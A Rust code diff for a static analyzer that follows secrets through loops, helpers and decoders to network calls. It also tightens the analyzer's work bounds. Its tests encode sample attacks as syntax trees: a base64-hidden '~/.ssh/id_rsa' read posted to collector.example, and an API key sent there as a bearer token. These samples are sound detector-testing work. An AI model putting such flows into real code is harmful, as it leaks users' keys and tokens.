@@ -22,13 +22,13 @@ use super::text;
 
 /// Interpretation steps one file may take (each expression or statement evaluated is one):
 /// with loops run twice and helpers evaluated per call, no input costs more than this.
-pub(crate) const MAX_STEPS: u32 = 200_000;
+pub(crate) const MAX_STEPS: u32 = 100_000;
 /// How many alternative texts a value keeps.
 const MAX_ALTERNATIVES: usize = 8;
 /// How long one text may grow.
-const MAX_TEXT: usize = 4096;
+const MAX_TEXT: usize = 1024;
 /// How many elements a collection keeps.
-const MAX_ITEMS: usize = 64;
+const MAX_ITEMS: usize = 32;
 /// How many secrets one value carries.
 const MAX_SECRETS: usize = 4;
 /// How deep helper calls are followed.
@@ -155,7 +155,7 @@ struct Value {
     /// A function of the file.
     function: Option<Rc<Function>>,
     /// Elements, when it is a collection.
-    items: Vec<Value>,
+    items: Rc<Vec<Value>>,
     /// The whole environment (`os.environ`, `process.env`).
     environment: bool,
     secrets: Vec<Secret>,
@@ -233,13 +233,33 @@ impl Value {
             self.function.clone_from(&other.function);
         }
         self.environment |= other.environment;
-        for item in &other.items {
-            if self.items.len() >= MAX_ITEMS {
-                break;
-            }
-            self.items.push(item.clone());
+        for item in other.items.iter() {
+            self.push_item(item.clone());
         }
         self.carry(&other.secrets);
+    }
+
+    /// Adds an element, keeping collections at most two levels deep (an element's own
+    /// elements are summarised by their texts and secrets), so that no value grows past
+    /// [`MAX_ITEMS`]² parts however the file nests them.
+    fn push_item(&mut self, mut item: Value) {
+        if self.items.len() >= MAX_ITEMS {
+            self.carry(&item.all_secrets());
+            return;
+        }
+        if item.items.iter().any(|inner| !inner.items.is_empty()) {
+            let summary: Vec<Value> = item
+                .items
+                .iter()
+                .map(|inner| Value {
+                    texts: inner.texts.clone(),
+                    secrets: inner.all_secrets(),
+                    ..Value::default()
+                })
+                .collect();
+            item.items = Rc::new(summary);
+        }
+        Rc::make_mut(&mut self.items).push(item);
     }
 
     /// The join of the elements (what a loop variable takes), or the value itself.
@@ -259,7 +279,7 @@ impl Value {
     fn all_secrets(&self) -> Vec<Secret> {
         let mut out = Value::default();
         out.carry(&self.secrets);
-        for item in &self.items {
+        for item in self.items.iter() {
             out.carry(&item.all_secrets());
         }
         out.secrets
@@ -469,9 +489,9 @@ fn model(lang: Lang, callee: &str) -> Option<Role> {
         .map(|m| m.role)
 }
 
-/// Interprets the lowered `body` of one file, reporting flows into `sink`; returns whether
-/// the work bound was reached before the end.
-pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> bool {
+/// Interprets the lowered `body` of one file, reporting flows into `sink`; returns how many
+/// steps it took (at most [`MAX_STEPS`]: the rest of the file is then not interpreted).
+pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> u32 {
     let mut interp = Interp {
         lang,
         sink,
@@ -482,7 +502,7 @@ pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> bool {
         steps: 0,
     };
     interp.block(body);
-    interp.steps >= MAX_STEPS
+    interp.steps
 }
 
 struct Interp<'s, 'a> {
@@ -543,7 +563,7 @@ impl Interp<'_, '_> {
                 let value = self.eval(expr);
                 // `data[item] = v` adds an element; the collection carries its secrets.
                 let mut element = Value::unknown_carrying(value.all_secrets());
-                element.items.push(value);
+                element.push_item(value);
                 self.assign(name, element, true);
             }
             Stmt::Eval(expr) => {
@@ -633,7 +653,7 @@ impl Interp<'_, '_> {
                 let args = if args.items.is_empty() {
                     vec![args]
                 } else {
-                    args.items.clone()
+                    args.items.to_vec()
                 };
                 format_template(&template, &args, "%s")
             }
@@ -653,9 +673,7 @@ impl Interp<'_, '_> {
                 let mut out = Value::default();
                 for (_, value) in entries {
                     let value = self.eval(value);
-                    if out.items.len() < MAX_ITEMS {
-                        out.items.push(value);
-                    }
+                    out.push_item(value);
                 }
                 out
             }
@@ -674,7 +692,7 @@ impl Interp<'_, '_> {
                 let value = self.eval(element);
                 self.weak -= 1;
                 let mut out = Value::default();
-                out.items.push(value);
+                out.push_item(value);
                 out
             }
             Expr::Function(function) => Value {
@@ -870,7 +888,7 @@ impl Interp<'_, '_> {
                 {
                     let mut element = Value::unknown_carrying(carried.secrets.clone());
                     for v in &positional {
-                        element.items.push((*v).clone());
+                        element.push_item((*v).clone());
                     }
                     self.assign(name, element, true);
                 }
@@ -1131,4 +1149,155 @@ fn decode_hex(text: &str) -> Option<String> {
         .map(|i| u8::from_str_radix(&text[i..i + 2], 16).ok())
         .collect();
     String::from_utf8(bytes?).ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn call(name: &str, args: Vec<Expr>) -> Expr {
+        Expr::Call {
+            callee: Box::new(Expr::Var(name.into())),
+            args: args.into_iter().map(|value| Arg { key: None, value }).collect(),
+            at: 0,
+        }
+    }
+
+    fn rules_of(lang: Lang, body: &[Stmt]) -> (Vec<&'static str>, u32) {
+        let text = "x\n".repeat(8);
+        let mut sink = Sink::new("f", &text);
+        let steps = run(lang, body, &mut sink);
+        let rules = sink.finish().0.iter().map(|f| f.rule).collect();
+        (rules, steps)
+    }
+
+    #[test]
+    fn a_secret_followed_through_a_loop_a_helper_and_a_decoder_reaches_the_request() {
+        // for item in ["~/.ssh/id_rsa"]: data = load(item); requests.post(URL, data=data)
+        let helper = Rc::new(Function {
+            name: "load".into(),
+            params: vec!["p".into()],
+            body: vec![Stmt::Return(call("open", vec![Expr::Var("p".into())]))],
+        });
+        let body = vec![
+            Stmt::Def(helper),
+            Stmt::Loop {
+                vars: vec!["item".into()],
+                iter: Expr::Build(vec![(
+                    None,
+                    call("atob", vec![Expr::Str("fi8uc3NoL2lkX3JzYQ==".into())]),
+                )]),
+                body: vec![Stmt::Let(
+                    "data".into(),
+                    call("load", vec![Expr::Var("item".into())]),
+                )],
+            },
+            Stmt::Eval(call(
+                "fetch",
+                vec![
+                    Expr::Str("https://collector.example/x".into()),
+                    Expr::Var("data".into()),
+                ],
+            )),
+        ];
+        let (rules, _) = rules_of(Lang::JavaScript, &body);
+        // `open` is a Python row: in JavaScript the same file reads nothing.
+        assert!(!rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+        let python: Vec<Stmt> = body
+            .into_iter()
+            .map(|s| match s {
+                Stmt::Loop { vars, body, .. } => Stmt::Loop {
+                    vars,
+                    iter: Expr::Build(vec![(
+                        None,
+                        call("base64.b64decode", vec![Expr::Str("fi8uc3NoL2lkX3JzYQ==".into())]),
+                    )]),
+                    body,
+                },
+                Stmt::Eval(_) => Stmt::Eval(call(
+                    "requests.post",
+                    vec![
+                        Expr::Str("https://collector.example/x".into()),
+                        Expr::Var("data".into()),
+                    ],
+                )),
+                other => other,
+            })
+            .collect();
+        let (rules, _) = rules_of(Lang::Python, &python);
+        assert!(rules.contains(&rules::CRED_SENSITIVE_PATH), "{rules:?}");
+        assert!(rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+    }
+
+    #[test]
+    fn a_provider_key_sent_to_its_provider_is_not_a_finding_but_elsewhere_it_is() {
+        let send = |url: &str| {
+            vec![
+                Stmt::Let(
+                    "key".into(),
+                    call("os.getenv", vec![Expr::Str("OPENAI_API_KEY".into())]),
+                ),
+                Stmt::Eval(call(
+                    "requests.post",
+                    vec![
+                        Expr::Str(url.into()),
+                        Expr::Concat(vec![Expr::Str("Bearer ".into()), Expr::Var("key".into())]),
+                    ],
+                )),
+            ]
+        };
+        let (own, _) = rules_of(Lang::Python, &send("https://api.openai.com/v1/chat"));
+        assert!(!own.contains(&rules::CRED_IN_REQUEST), "{own:?}");
+        let (other, _) = rules_of(Lang::Python, &send("https://collector.example/v1"));
+        assert!(other.contains(&rules::CRED_IN_REQUEST), "{other:?}");
+    }
+
+    /// The work bound: helpers called from everywhere, loops nested deep and values that
+    /// double at each statement stop at [`MAX_STEPS`] and stay fast.
+    #[test]
+    fn adversarial_input_stays_within_the_step_bound() {
+        let mut helper_body = Vec::new();
+        for _ in 0..2_000 {
+            helper_body.push(Stmt::Let(
+                "s".into(),
+                Expr::Concat(vec![Expr::Var("s".into()), Expr::Var("s".into())]),
+            ));
+            helper_body.push(Stmt::Let(
+                "l".into(),
+                Expr::Build(vec![
+                    (None, Expr::Var("l".into())),
+                    (None, Expr::Var("l".into())),
+                ]),
+            ));
+        }
+        let helper = Rc::new(Function {
+            name: "h".into(),
+            params: Vec::new(),
+            body: helper_body,
+        });
+        let mut nested = vec![Stmt::Eval(call("h", Vec::new()))];
+        for _ in 0..20 {
+            nested = vec![Stmt::Loop {
+                vars: vec!["i".into()],
+                iter: Expr::Build(vec![(None, Expr::Str("a".repeat(1000)))]),
+                body: nested,
+            }];
+        }
+        let mut body = vec![
+            Stmt::Let("s".into(), Expr::Str("x".repeat(1000))),
+            Stmt::Def(helper),
+        ];
+        body.extend(nested);
+        for _ in 0..10_000 {
+            body.push(Stmt::Eval(call("h", Vec::new())));
+        }
+        let started = std::time::Instant::now();
+        let (_, steps) = rules_of(Lang::Python, &body);
+        assert_eq!(steps, MAX_STEPS);
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(5),
+            "took {:?}",
+            started.elapsed()
+        );
+    }
 }
